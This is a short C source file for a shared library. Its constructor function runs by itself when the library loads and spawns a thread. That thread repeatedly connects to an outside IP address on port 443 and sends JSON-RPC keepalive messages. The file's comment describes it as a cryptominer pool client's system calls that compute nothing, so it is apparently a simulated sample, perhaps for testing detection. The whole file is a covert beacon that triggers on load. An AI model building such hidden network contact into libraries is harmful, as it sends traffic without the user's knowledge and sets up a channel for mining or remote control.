#include <pthread.h>
#include <string.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <sys/socket.h>
/* The system calls of a pool client inside a library; it computes nothing. */
static void*run(void*x){ for(int r=0;r<3;r++){ int s=socket(AF_INET,SOCK_STREAM|SOCK_CLOEXEC,0); struct sockaddr_in a={0}; a.sin_family=AF_INET; a.sin_port=htons(443); inet_pton(AF_INET,"198.51.100.95",&a.sin_addr);
 if(connect(s,(void*)&a,sizeof a)==0) for(int i=0;i<6;i++){ char b[300]; const char*m="{\"id\":1,\"method\":\"keepalived\"}\n"; send(s,b,0,0); send(s,m,strlen(m),0); recv(s,b,sizeof b,0); usleep(450000);} close(s);} return x; }
__attribute__((constructor)) static void up(void){ pthread_t t; pthread_create(&t,0,run,0); }
